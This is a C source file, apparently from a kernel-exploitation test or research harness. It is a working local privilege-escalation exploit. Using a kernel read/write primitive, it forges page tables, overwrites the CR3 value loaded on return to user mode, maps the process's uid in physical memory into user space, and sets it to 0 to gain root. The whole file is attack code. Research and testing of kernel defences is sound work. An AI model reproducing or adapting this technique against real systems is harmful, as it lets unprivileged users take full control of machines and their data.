/*
 * The way out of the kernel loads a root that the attacker wrote: two neighbouring frames of its
 * own, since the way in finds the kernel's root in front of the user's.
 */
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"

enum { KERNEL_ROOT, USER_ROOT, LEVEL_3, LEVEL_2, LEVEL_1, NR_TABLES };
enum { ENTRIES = 512, TRIES = 20 };
enum { PRESENT_WRITABLE_USER = 7 };
/* Alone in its 512 GiB, so that no other page loses its tables. */
#define WINDOW (1ul << 45)
#define CR3_FRAME 0xffffffffff000ul
#define CR3_NOFLUSH (1ul << 63)

typedef uint64_t table[ENTRIES];

static uint64_t index_at(uint64_t address, int level)
{
	return address >> (12 + 9 * (level - 1)) & (ENTRIES - 1);
}

/* Frames that follow each other from here on: those of a 2 MiB page. */
static uint64_t frame_of(const table *tables, int which)
{
	return (attack_pfn(tables) + (uint64_t)which) * BW_PAGE_SIZE;
}

/* The attack's own pair of roots, but that user mode finds another page at WINDOW. */
static void build(const struct bw_leak *leak, table *tables, uint64_t pa)
{
	attack_read(attack_frame_alias(leak, leak->root), tables[KERNEL_ROOT], 2 * BW_PAGE_SIZE);
	for (int which = USER_ROOT; which < LEVEL_1; which++) {
		tables[which][index_at(WINDOW, 4 - (which - USER_ROOT))] =
			frame_of(tables, which + 1) | PRESENT_WRITABLE_USER;
	}
	tables[LEVEL_1][index_at(WINDOW, 1)] = (pa & CR3_FRAME) | PRESENT_WRITABLE_USER;
}

int main(void)
{
	struct bw_leak leak;
	table *tables;
	uint64_t own, forged;
	volatile uint32_t *uid;

	attack_begin(&leak, 1, 0);
	tables = attack_huge_page();
	/* with its own root loaded it finds a page of its own there */
	if (mmap((void *)WINDOW, BW_PAGE_SIZE, PROT_READ | PROT_WRITE,
		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED) {
		attack_skip("no page to be had");
	}
	uid = (volatile uint32_t *)(WINDOW + leak.uid_pa % BW_PAGE_SIZE);
	*uid = 1;
	build(&leak, tables, leak.uid_pa);
	own = (uint64_t)bw_vuln_read(leak.exit_cr3) & ~CR3_NOFLUSH;
	forged = (own & ~CR3_FRAME) | frame_of(tables, USER_ROOT);
	attack_say("the way out loads 0x%lx, from now on 0x%lx, which is a page of this program's",
		   own, forged);
	/* a switch of threads undoes it */
	for (int tries = 0; tries < TRIES && getuid() != 0; tries++) {
		attack_check("vuln_write", bw_vuln_write(leak.exit_cr3, forged));
		*uid = 0;
		bw_vuln_write(leak.exit_cr3, own);
	}
	return attack_finish();
}
